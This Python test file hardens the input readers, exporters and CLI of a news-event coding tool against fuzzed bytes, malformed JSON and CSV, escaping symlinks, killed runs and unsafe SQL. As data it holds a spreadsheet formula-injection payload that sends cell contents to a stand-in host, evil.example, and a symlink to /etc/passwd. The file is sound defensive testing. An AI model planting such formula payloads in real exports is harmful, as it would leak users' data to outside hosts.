"""Hostile input never crashes a reader; interrupted runs neither lose nor duplicate data."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
from datetime import date
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from dyads.ingest import read_file, read_inputs
from dyads.ingest.language import not_english_reason
from dyads.ingest.readers import MAX_ARTICLE_CHARS
from dyads.models import Article, Reject
from tests.conftest import SHARED, shared_or_skip

SUFFIXES = [".txt", ".jsonl", ".json", ".csv", ".xml", ".tml", ".html", ".parquet"]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(payload=st.binary(max_size=3000), suffix=st.sampled_from(SUFFIXES))
@example(payload=b"\r\x01", suffix=".csv")  # a bare carriage return once raised from the csv module
@example(payload=b"PAR1\x00PAR1", suffix=".parquet")
def test_readers_never_raise_on_random_bytes(tmp_path, payload, suffix):
    p = tmp_path / f"f{suffix}"
    p.write_bytes(payload)
    for item in read_file(p):
        assert isinstance(item, Article | Reject)
        if isinstance(item, Reject):
            assert item.reason and item.origin == str(p)
        else:
            assert item.text.strip()


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    records=st.lists(
        st.one_of(
            st.dictionaries(st.sampled_from(["id", "date", "text", "title"]),
                            st.one_of(st.text(max_size=80), st.integers(), st.none()), max_size=4),
            st.text(max_size=60),
        ),
        max_size=8,
    )
)
def test_jsonl_records_are_each_read_or_rejected(tmp_path, records):
    p = tmp_path / "gen.jsonl"
    lines = [json.dumps(r) if isinstance(r, dict) else r.replace("\n", " ") for r in records]
    p.write_text("\n".join(lines), encoding="utf-8")
    items = list(read_file(p))
    nonblank = [x for x in lines if x.strip()]
    if "\x00" in "\n".join(lines):
        # NUL bytes make the whole file binary: one reject for the file, with that reason
        assert [i.reason for i in items] == ["binary data (NUL bytes), not text"]
    elif not nonblank:
        assert [i.reason.split(" (")[0] for i in items] == ["empty file"]
    else:
        # one article or one reject per non-blank line: nothing silently dropped
        assert len(items) == len(nonblank)


def test_huge_article_and_long_line_are_rejected_with_reason(tmp_path):
    big = tmp_path / "big.txt"
    big.write_text("date: 2013-07-22\n" + ("The minister met the envoy. " * 40_000))
    line = tmp_path / "line.jsonl"
    line.write_text(json.dumps({"id": "long", "text": "word " * 2_100_000}) + "\n"
                    + json.dumps({"id": "ok", "text": "Russia met Syria."}) + "\n")
    items = list(read_inputs([str(big), str(line)]))
    assert isinstance(items[0], Reject) and "exceeds" in items[0].reason and f"{MAX_ARTICLE_CHARS:,}" in items[0].reason
    assert isinstance(items[1], Reject) and items[1].record == "line 1"
    assert isinstance(items[2], Article) and items[2].id == "ok"


def test_non_english_text_is_rejected_with_reason(tmp_path):
    fr = (
        "Le gouvernement français a annoncé mardi une nouvelle série de mesures pour soutenir les entreprises "
        "touchées par la crise, selon un communiqué publié par le ministère de l'économie et des finances à Paris. "
        "Les syndicats ont critiqué le plan, jugé insuffisant par plusieurs économistes interrogés."
    )
    assert not_english_reason(fr)
    english = "Russia criticised the United States on Monday, saying the plan was a mistake. " * 3
    assert not_english_reason(english) is None
    p = tmp_path / "fr.txt"
    p.write_text("date: 2013-07-22\n" + fr)
    (r,) = read_inputs([str(p)])
    assert isinstance(r, Reject) and r.reason.startswith("not English")


def test_short_and_mixed_texts_are_judged_by_lingua(tmp_path):
    """A sentence in another language is a reject naming the language; English headlines, sentences and
    articles quoting another language are read (was: anything under 25 words was accepted unread, so
    every one-sentence record in Spanish or German was coded with English dictionaries)."""
    other = {
        "Spanish": "El ministro de Defensa anunció el martes el envío de más soldados a la frontera norte.",
        "German": "Die Regierung will die Steuern auf Diesel im nächsten Jahr deutlich erhöhen.",
        "Polish": "Prezydent podpisał w piątek ustawę o nowych zasadach finansowania szpitali.",
    }
    for language, text in other.items():
        assert not_english_reason(text) == (f"not English: the text reads as {language} (lingua, first "
                                            f"{len(text)} characters)"), language
    # short, but in another script: looked at all the same
    assert not_english_reason("Правительство объявило о санкциях") == (
        "not English: the text reads as Russian (lingua, first 33 characters)")
    # another language quoting English: not English (lingua's fast mode names it Spanish, not French)
    mixed = "Le Premier ministre britannique David Cameron a déclaré lundi à Londres que le \"deal is done\"."
    assert (not_english_reason(mixed) or "").startswith("not English: the text reads as ")
    english = [
        "Rebels shelled the airport on Tuesday, the army said.",
        "Obama, Putin meet in Geneva",  # a headline: too short to tell, read
        "CFTC orders JPMorgan to pay $20 million in Lehman case",
        "President Francois Hollande said on Tuesday that France would not back down. \"Nous ne cederons pas,\" "
        "he told reporters in Paris, adding that security at the airports would be tightened for the summer.",
    ]
    for text in english:
        assert not_english_reason(text) is None, text
    p = tmp_path / "short.jsonl"
    p.write_text(json.dumps({"id": "es", "date": "2013-07-22", "text": other["Spanish"]}) + "\n"
                 + json.dumps({"id": "en", "date": "2013-07-22", "text": english[0]}) + "\n")
    rejected, read = read_inputs([str(p)])
    assert isinstance(rejected, Reject) and rejected.reason.startswith("not English: the text reads as Spanish")
    assert isinstance(read, Article) and read.id == "en"


def _dump(db: Path) -> tuple:
    con = duckdb.connect(str(db), read_only=True)
    try:
        arts = con.execute("SELECT id, content_hash FROM articles ORDER BY id").fetchall()
        events = con.execute("SELECT id, record FROM events ORDER BY id").fetchall()
        actors = con.execute("SELECT count(*) FROM event_actors").fetchone()
        return arts, events, actors
    finally:
        con.close()


@pytest.mark.slow
def test_kill_9_then_rerun_equals_uninterrupted_run(tmp_path):
    corpus = shared_or_skip(SHARED / "corpus" / "reuters-2011-2013.jsonl")
    src = tmp_path / "part.jsonl"
    with open(corpus, encoding="utf-8") as f:
        src.write_text("".join(line for _, line in zip(range(120), f, strict=False)))
    cmd = [sys.executable, "-m", "dyads.cli", "code", str(src), "-q", "--batch-size", "16"]
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    clean = tmp_path / "clean.duckdb"
    subprocess.run([*cmd, "--db", str(clean)], check=False, env=env, timeout=900)
    total = len(_dump(clean)[0])
    # kill -9 part-way through, once the progress bar (on stderr, so without -q) counts a stored batch:
    # the writer holds the file lock, and a kill timed against the clean run missed on a loaded
    # machine (worker start-up times vary)
    killed = tmp_path / "killed.duckdb"
    proc = subprocess.Popen([*cmd[:-3], "--batch-size", "16", "--db", str(killed)], env=env, stderr=subprocess.PIPE)
    seen = b""
    while chunk := proc.stderr.read1(4096):
        seen = (seen + chunk)[-4096:]
        # "coding: 16 articles" before the bar knows the input's total, "16/120 [" after
        counts = [a or b for a, b in re.findall(rb"(\d+)/\d+ \[|coding: (\d+) articles", seen)]
        if counts and 0 < int(counts[-1]) < total:
            proc.send_signal(signal.SIGKILL)
            break
    proc.wait()
    partial = _dump(killed) if killed.exists() else ([], [], None)
    assert 0 < len(partial[0]) < total, "could not interrupt the run part-way through"
    assert len(partial[0]) % 16 == 0  # whole batches only
    subprocess.run([*cmd, "--db", str(killed)], check=False, env=env, timeout=900)
    assert _dump(killed) == _dump(clean)


_TIME_WORDS = ["on", "last", "next", "this", "Monday", "Friday", "May", "7", "2013", "March", "2011", "since", "by",
               "the", "end", "of", "year", "month", "week", "two", "days", "ago", "earlier", "every", "1990s", "now",
               "recently", "Feb.", "30", "quarter", "a", "fiscal", "0", "3000", "-", "'s"]
_TIMEX_VALUE = re.compile(
    r"^(\d{4}(-(\d{2}|W\d{1,2}|Q[1-4]|H[12]|SP|SU|FA|WI|XX))?(-\d{2})?(T[\w:]+)?|\d{1,3}X*|XXXX[-\w]*|"
    r"P[\dX.]+[YMWDHTS]|PT[\dX.]+[HMS]|PRESENT_REF|PAST_REF|FUTURE_REF|[A-Z0-9:T-]+)$"
)


@settings(max_examples=400, deadline=None)
@given(words=st.lists(st.sampled_from(_TIME_WORDS), min_size=1, max_size=6),
       dct=st.dates(min_value=date(1900, 1, 1), max_value=date(2099, 12, 31)),
       tense=st.sampled_from([None, "PAST", "PRESENT", "FUTURE"]))
def test_time_normaliser_never_raises_and_gives_timex_shaped_values(words, dct, tense):
    from dyads.time.normalize import Context, normalize

    value = normalize(" ".join(words), Context(dct), tense)
    if value is not None:
        assert value.type in {"DATE", "TIME", "DURATION", "SET"}
        assert value.value and _TIMEX_VALUE.match(value.value), value


# -- issue 18: one record never stops a run ------------------------------------------------------

GOOD = "Russia criticised the United States on Monday, saying the plan was a mistake."


def _run(coder, tmp_path, items, name="run"):
    from dyads.runner import code_into_store
    from dyads.store import Store

    rejects = tmp_path / f"{name}.rejects.jsonl"
    with Store(tmp_path / f"{name}.duckdb") as store:
        report = code_into_store(items, store, coder, rejects_path=rejects)
        ids = [r[0] for r in store.con.execute("SELECT id FROM articles ORDER BY id").fetchall()]
    kept = [json.loads(line) for line in rejects.read_text(encoding="utf-8").splitlines()] if rejects.exists() else []
    return report, ids, kept


def test_deep_nesting_and_lone_surrogate_are_rejects_and_the_run_goes_on(coder, tmp_path):
    deep = tmp_path / "d.jsonl"
    deep.write_text("[" * 1000 + "]" * 1000 + "\n" + json.dumps({"id": "after", "text": GOOD}) + "\n")
    arr = tmp_path / "deep.json"
    arr.write_text("[" * 5000 + "]" * 5000)
    sur = tmp_path / "s.jsonl"
    sur.write_text('{"id":"s","text":"Russia criticised the United States. \\ud800"}\n', encoding="utf-8")
    good = tmp_path / "good.txt"
    good.write_text("date: 2013-07-22\n" + GOOD)
    report, ids, kept = _run(coder, tmp_path, read_inputs([str(deep), str(arr), str(sur), str(good)]))
    assert ids == ["after", "good"]
    reasons = {(r["origin"].rsplit("/", 1)[-1], r["record"]): r["reason"] for r in kept}
    assert reasons[("d.jsonl", "line 1")] == "malformed JSON: nested too deeply"
    assert reasons[("deep.json", "file")] == "malformed JSON: nested too deeply"
    assert reasons[("s.jsonl", "line 1")].startswith("invalid Unicode: lone surrogate U+D800 in text")
    assert report.rejected == 3 and report.coded == 2


def test_an_article_the_coder_fails_on_is_a_reject_with_a_traceback_digest(coder, tmp_path):
    # straight to the runner, past the reader's checks: spaCy itself raises on a lone surrogate
    bad = Article(id="bad", text="Russia criticised the United States. \ud800", origin="feed.jsonl:line 2")
    items = [Article(id="a", text=GOOD, origin="feed.jsonl:line 1"), bad,
             Article(id="c", text=GOOD, origin="feed.jsonl:line 3")]
    report, ids, kept = _run(coder, tmp_path, items)
    assert ids == ["a", "c"] and report.coded == 2 and report.rejected == 1
    (r,) = kept
    assert (r["origin"], r["record"]) == ("feed.jsonl", "line 2")
    assert r["reason"].startswith("coding failed: UnicodeEncodeError") and "traceback " in r["reason"]
    assert r["raw"].endswith("States. \\ud800")  # kept as the escape's text, so the file stays valid UTF-8
    # ... but a failure of the input itself (the store, asked what is coded already) stops the run
    from dyads.runner import code_safely

    def feed():
        yield Article(id="a", text=GOOD)
        raise OSError("store gone")

    with pytest.raises(OSError, match="store gone"):
        list(code_safely(coder, feed(), lambda r: None))


def test_links_leaving_an_input_folder_are_rejected_without_their_content(tmp_path):
    outside = tmp_path / "secret.txt"
    outside.write_text("date: 2013-07-22\nSECRET_TOKEN=hunter2 " + GOOD)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x.txt").write_text("date: 2013-07-22\nSECRET_DIR " + GOOD)
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.txt").write_text("date: 2013-07-22\n" + GOOD)
    (folder / "e.txt").symlink_to(outside)
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    (folder / "dir").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    (folder / "sub").mkdir()
    (folder / "sub" / "inner.txt").symlink_to(folder / "a.txt")  # stays inside: read
    items = list(read_inputs([str(folder)]))
    assert "SECRET" not in repr(items) and "root:" not in repr(items)
    assert [i.id for i in items if isinstance(i, Article)] == ["a", "inner"]
    refused = {Path(r.origin).name: r for r in items if isinstance(r, Reject)}
    assert set(refused) == {"e.txt", "passwd.txt", "dir"}
    assert all("outside the input folder" in r.reason and r.raw == "" for r in refused.values())
    # named on the command line, a link is the user's choice and is read
    (art,) = read_inputs([str(folder / "e.txt")])
    assert isinstance(art, Article) and "SECRET_TOKEN" in art.text


def test_every_reject_keeps_a_bounded_excerpt_and_where_the_record_is(tmp_path):
    from dyads.models import REJECT_RAW_CHARS

    bad_line = b'{"id": "x", "text": "' + b"a" * 3_000_000 + b"\n"  # malformed: the string never closes
    good_line = json.dumps({"id": "ok", "text": GOOD}).encode() + b"\n"
    p = tmp_path / "f.jsonl"
    p.write_bytes(good_line + bad_line + b"{oops}\r\n")
    items = list(read_inputs([str(p)]))
    assert [type(i).__name__ for i in items] == ["Article", "Reject", "Reject"]
    data = p.read_bytes()
    for r, line in zip(items[1:], (bad_line, b"{oops}"), strict=True):
        assert len(r.raw) <= REJECT_RAW_CHARS
        assert data[r.offset:r.offset + r.length] == line.rstrip(b"\n")
    # the same bound on every path, whatever a reader passes in
    assert len(Reject("f", "row 1", "why", "x" * 10**6).raw) == REJECT_RAW_CHARS
    # a whole-file reject: the file's extent
    empty = tmp_path / "e.txt"
    empty.write_text("   \n")
    (r,) = read_inputs([str(empty)])
    assert (r.offset, r.length) == (0, 4)


INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_csv_cells_that_would_run_as_formulas_are_neutralised_everywhere(coder, tmp_path):
    from click.testing import CliRunner
    from fastapi.testclient import TestClient

    from dyads.cli import main
    from dyads.export.records import csv_cell
    from dyads.web import create_app

    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "ok", -2.5, None)] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "ok", -2.5, None]
    assert csv_cell("=1+1", escape_formulas=False) == "=1+1"
    feed = tmp_path / "f.jsonl"
    feed.write_text(json.dumps({"id": "x", "date": "2013-07-22", "text": f"{INJECTION} Russia criticised the "
                                "United States on Monday."}) + "\n")
    db = tmp_path / "x.duckdb"
    run = CliRunner().invoke(main, ["code", str(feed), "--db", str(db), "-q", "--format", "csv",
                                    "-o", str(tmp_path / "code.csv")], catch_exceptions=False)
    assert run.exit_code == 0, run.output
    CliRunner().invoke(main, ["code", str(feed), "--db", str(tmp_path / "y.duckdb"), "-q", "--format", "csv",
                              "--raw-csv", "-o", str(tmp_path / "raw.csv")], catch_exceptions=False)
    query = CliRunner().invoke(main, ["query", "--db", str(db), "--format", "csv", "SELECT text FROM articles"],
                               catch_exceptions=False)
    with TestClient(create_app(db, allowed_hosts=["testserver"])) as client:
        web = client.get("/api/events.csv").text

    def cells(text: str) -> list[str]:
        import csv as csvmod
        import io

        return [c for row in csvmod.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]

    for name, text in (("code", (tmp_path / "code.csv").read_text()), ("web", web), ("query", query.stdout)):
        found = cells(text)
        assert found and all(c.startswith("'=HYPERLINK") for c in found), (name, found)
    assert any(c.startswith("=HYPERLINK") for c in cells((tmp_path / "raw.csv").read_text()))


def test_a_failed_export_leaves_the_previous_file_whole(tmp_path, monkeypatch):
    from dyads import export
    from dyads.export import export_events
    from dyads.store import Store

    db = tmp_path / "e.duckdb"
    with Store(db):
        pass

    def boom(*args, **kwargs):
        raise OSError("killed half-way")

    for fmt, name in (("jsonl", "out.jsonl"), ("parquet", "out.parquet"), ("gdelt-events", "out.tsv")):
        target = tmp_path / name
        target.write_bytes(b"the previous complete export\n")
        monkeypatch.setattr(export, "select_events", lambda store, flt, limit=None: [{"id": 1}])
        monkeypatch.setattr(export, "event_mentions", lambda store, ids: {})
        monkeypatch.setattr(export, "_jsonl_record", boom)
        monkeypatch.setattr("pyarrow.parquet.write_table",  # imported by the Parquet export when it writes
                            lambda table, path: (Path(path).write_bytes(b"PAR1"), boom()))
        monkeypatch.setattr(export.gdelt, "event_lines", lambda ev, header: iter(["a\tb\n", boom()]))
        with Store(db, read_only=True) as store, pytest.raises(OSError, match="half-way"):
            export_events(store, fmt, target)
        assert target.read_bytes() == b"the previous complete export\n"
        assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_export_csv_neutralises_formula_names(tmp_path, monkeypatch):
    import csv as csvmod

    from dyads import export
    from dyads.export import export_events
    from dyads.store import Store

    db = tmp_path / "e.duckdb"
    with Store(db):
        pass
    monkeypatch.setattr(export, "select_events", lambda store, flt, limit=None: [{"id": 1, "source_name": INJECTION}])
    monkeypatch.setattr(export, "event_mentions", lambda store, ids: {})
    with Store(db, read_only=True) as store:
        export_events(store, "csv", tmp_path / "safe.csv")
        export_events(store, "csv", tmp_path / "raw.csv", escape_formulas=False)
    safe = next(csvmod.DictReader(open(tmp_path / "safe.csv", encoding="utf-8")))
    raw = next(csvmod.DictReader(open(tmp_path / "raw.csv", encoding="utf-8")))
    assert safe["source_name"] == "'" + INJECTION and raw["source_name"] == INJECTION


_KILL_AT_MERGE = """
import os, signal, sys
import dyads.runner as runner
real, calls = runner.update_events, [0]
def merge_or_die(*args, **kwargs):
    calls[0] += 1
    if calls[0] == int(sys.argv[1]):  # the batch is written; the process dies before merging it
        os.kill(os.getpid(), signal.SIGKILL)
    return real(*args, **kwargs)
runner.update_events = merge_or_die
from dyads.cli import main
main(sys.argv[2:])
"""


def _all_tables(db: Path) -> dict[str, list[tuple]]:
    """Every table's rows, timestamps left out (they say when, not what)."""
    con = duckdb.connect(str(db), read_only=True)
    try:
        out = {}
        for (table,) in con.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = 'main' "
                                    "AND table_type = 'BASE TABLE' ORDER BY 1").fetchall():
            cols = [c for c, t in con.execute("SELECT column_name, data_type FROM information_schema.columns "
                                              "WHERE table_name = ? ORDER BY ordinal_position", [table]).fetchall()
                    if not t.startswith("TIMESTAMP")]
            out[table] = con.execute(f"SELECT {', '.join(f'{c!r}'.replace(chr(39), chr(34)) for c in cols)} "
                                     f"FROM {table} ORDER BY ALL").fetchall()
        return out
    finally:
        con.close()


@pytest.mark.slow
def test_kill_between_a_batch_write_and_its_merge_loses_nothing(tmp_path):
    examples = Path(__file__).resolve().parent.parent / "examples"
    args = ["code", str(examples), "-q", "--batch-size", "4"]
    clean, killed = tmp_path / "clean.duckdb", tmp_path / "killed.duckdb"
    subprocess.run([sys.executable, "-m", "dyads.cli", *args, "--db", str(clean)], check=False, timeout=600)
    died = subprocess.run([sys.executable, "-c", _KILL_AT_MERGE, "2", *args, "--db", str(killed)], timeout=600)
    assert died.returncode == -signal.SIGKILL
    half = _all_tables(killed)
    assert len(half["articles"]) == 8 and len(half["aggregated_articles"]) == 4  # written, not merged
    subprocess.run([sys.executable, "-m", "dyads.cli", *args, "--db", str(killed)], check=False, timeout=600)
    after, want = _all_tables(killed), _all_tables(clean)
    assert after.keys() == want.keys() and {"merged_events", "event_mentions", "aggregated_articles"} <= want.keys()
    for table in want:
        assert after[table] == want[table], table


@pytest.mark.parametrize("sql", [
    "CALL enable_logging(storage='file', storage_path='x.log')", "PRAGMA enable_profiling", "SET threads = 1",
    "SELECT * FROM enable_logging()", "select 1; select 2", "ATTACH 'other.duckdb'", "INSTALL httpfs",
    "COPY articles TO 'x.csv'", "CHECKPOINT", "DELETE FROM articles",
])
def test_query_refuses_all_but_read_only_statements_with_a_clear_message(tmp_path, sql):
    from click.testing import CliRunner

    from dyads.cli import main
    from dyads.store import Store

    db = tmp_path / "q.duckdb"
    with Store(db):
        pass
    r = CliRunner().invoke(main, ["query", "--db", str(db), sql])
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert r.stderr.startswith("dyads query: ") and ("not allowed" in r.stderr or "one SQL statement" in r.stderr)
    ok = CliRunner().invoke(main, ["query", "--db", str(db), "WITH x AS (SELECT 1 AS a) SELECT a FROM x"])
    assert ok.exit_code == 0 and "1 rows" in ok.stderr


def test_a_named_dictionary_file_that_cannot_be_read_is_an_error_naming_it(tmp_path):
    from click.testing import CliRunner

    from dyads.actors import DictionaryError
    from dyads.cli import main
    from dyads.eval.petrarch import read_validation

    (tmp_path / "verbs.txt").write_text("")
    (tmp_path / "actors.txt").symlink_to(tmp_path / "gone.txt")  # a broken link
    suite = tmp_path / "suite.xml"
    suite.write_text("<Validation><Environment><Verbfile>verbs.txt</Verbfile><Actorfile>actors.txt</Actorfile>"
                     "<Agentfile>agents_typo.txt</Agentfile></Environment>"
                     '<Sentence id="1" category="X"><Text>Arnor met Gondor.</Text>'
                     '<EventCoding noevents="true"/></Sentence></Validation>')
    with pytest.raises(DictionaryError, match=r"<Actorfile>actors.txt</Actorfile>: dictionary file .*actors.txt "
                                              r"cannot be read: No such file"):
        read_validation(suite)
    r = CliRunner().invoke(main, ["eval", "petrarch", str(suite)])
    assert r.exit_code == 1 and "actors.txt cannot be read" in r.output and "Traceback" not in r.output
    # a PETRARCH dictionary directory given to `dyads code --dict` with an unreadable file: named, exit 2
    feed = tmp_path / "a.txt"
    feed.write_text("date: 2013-07-22\n" + GOOD)
    r = CliRunner().invoke(main, ["code", str(feed), "--db", str(tmp_path / "d.duckdb"), "--dict", str(tmp_path)])
    assert r.exit_code == 2 and "actors.txt cannot be read" in r.stderr


_FILE_SIZE_LIMIT = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG, as on a full disk
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]), int(sys.argv[1])))
from dyads.cli import main
main(sys.argv[2:])
"""


@pytest.mark.slow
def test_disk_full_says_what_happened_and_a_rerun_goes_on(tmp_path):
    examples = Path(__file__).resolve().parent.parent / "examples"
    args = ["code", str(examples), "-q", "--batch-size", "4"]
    full, clean = tmp_path / "full.duckdb", tmp_path / "clean.duckdb"
    r = subprocess.run([sys.executable, "-c", _FILE_SIZE_LIMIT, str(600_000), *args, "--db", str(full)],
                       capture_output=True, text=True, timeout=600)
    assert r.returncode == 1, r.stderr
    # where the limit falls depends on the schema's size (migration 14's tables moved it from a batch's write
    # to its merge): either way the message says what of the batch was kept
    assert r.stderr.strip().splitlines()[-1] in (
        f"dyads code: no space left on device: {full}; nothing of the current batch was stored; rerun to go on",
        f"dyads code: no space left on device: {full}; the current batch was stored but not merged into events; "
        "rerun to go on"), r.stderr
    assert "Traceback" not in r.stderr
    subprocess.run([sys.executable, "-m", "dyads.cli", *args, "--db", str(full)], check=True, timeout=600)
    subprocess.run([sys.executable, "-m", "dyads.cli", *args, "--db", str(clean)], check=True, timeout=600)
    assert _all_tables(full) == _all_tables(clean)


def test_an_unbalanced_csv_quote_rejects_its_row_and_loses_no_other(tmp_path):
    rows = ["Russia criticised the United States on Monday.", '"China praised Japan for the agreement on Tuesday.',
            "Iran met Iraq in Baghdad on Wednesday.", '"France accused Germany of delaying the talks."',
            "Egypt hosted Israel for talks in Cairo.", "Turkey condemned Syria over the shelling.",
            "India signed a trade deal with Brazil."]
    p = tmp_path / "c.csv"
    p.write_bytes(("id,date,text\r\n" + "".join(f"{i},2013-07-22,{t}\r\n" for i, t in enumerate(rows, 1))).encode())
    items = list(read_inputs([str(p)]))
    assert [i.id for i in items if isinstance(i, Article)] == ["1", "3", "4", "5", "6", "7"]
    (r,) = [i for i in items if isinstance(i, Reject)]
    assert r.record == "row 2" and r.reason.startswith("malformed CSV at lines 3-5") and "line 4" in r.reason
    assert p.read_bytes()[r.offset:r.offset + r.length] == f"2,2013-07-22,{rows[1]}".encode()
    # the same quote on the last row: end of data inside a quoted field
    p.write_text('id,text\n1,"Russia met\nSyria in a ""quoted"" text"\n2,"Iran met Iraq.\n3,Egypt met Israel.\n')
    items = list(read_inputs([str(p)]))
    assert [(type(i).__name__, getattr(i, "id", None) or i.record) for i in items] == [
        ("Article", "1"), ("Reject", "row 2"), ("Article", "3")]
    assert items[0].text == 'Russia met\nSyria in a "quoted" text'


@pytest.mark.slow
def test_coding_and_browsing_one_database_go_on_together(tmp_path):
    """`dyads serve` and `dyads code` on one file at once, in two processes: the coding run stores every
    batch, the API answers every request meanwhile and shows the new articles within seconds (was: `dyads
    code` stopped at once with "in use by another dyads process" while the server ran)."""
    import threading
    import time

    import httpx

    from dyads.web.loadtest import _free_port, start_server

    texts = sorted((Path(__file__).resolve().parent.parent / "examples").glob("*.txt"))
    db = tmp_path / "live.duckdb"
    code = [sys.executable, "-m", "dyads.cli", "code", "-q", "--processes", "1", "--db", str(db)]
    subprocess.run([*code, *map(str, texts[:2])], check=True, timeout=600)
    port = _free_port()
    server = start_server(str(db), port)
    seen: list[tuple[int, int | None]] = []  # (status, articles) of every request while coding
    stop = threading.Event()

    def browse() -> None:
        with httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=120) as http:
            while not stop.is_set():
                r = http.get("/api/stats")
                seen.append((r.status_code, r.json().get("articles") if r.status_code == 200 else None))
                http.get("/api/events", params={"limit": 5}).raise_for_status()
                time.sleep(0.05)

    browser = threading.Thread(target=browse)
    browser.start()
    try:
        done = subprocess.run([*code, "--batch-size", "2", *map(str, texts[2:])], capture_output=True, text=True,
                              timeout=900)
        assert done.returncode == 0, done.stderr
        deadline = time.monotonic() + 10  # the server sees the last batch within seconds
        while time.monotonic() < deadline and (not seen or seen[-1][1] != len(texts)):
            time.sleep(0.2)
        stop.set()
        browser.join(timeout=120)
        assert seen and {s for s, _ in seen} == {200}, [s for s in seen if s[0] != 200][:3]
        counts = [n for _, n in seen]
        assert counts[0] == 2 and counts[-1] == len(texts)
        assert counts == sorted(counts) and len(set(counts)) > 2  # batches seen as they were stored
        listed = httpx.get(f"http://127.0.0.1:{port}/api/articles", params={"limit": 50}).json()["items"]
        ids = {a["id"] for a in listed}
        assert {p.stem for p in texts} <= ids
    finally:
        stop.set()
        server.terminate()
        server.wait(timeout=60)


def test_plainly_english_text_is_read_without_asking_lingua(monkeypatch):
    """lingua's first detection loads its models (about 0.5 s of a cold start): an article plainly English by
    its function words does not ask it; short or doubtful texts still do."""
    from dyads.ingest import language

    asked = []
    monkeypatch.setattr(language, "lingua_reason", lambda text: asked.append(text))
    article = ("The rebels said on Tuesday that the army had shelled the town for the third day, and the "
               "government said it would send more troops to the region after the attack on the airport, "
               "which was closed by the authorities.")
    assert language.not_english_reason(article) is None and asked == []
    language.not_english_reason("Rebels shelled the airport on Tuesday, the army said.")
    assert len(asked) == 1
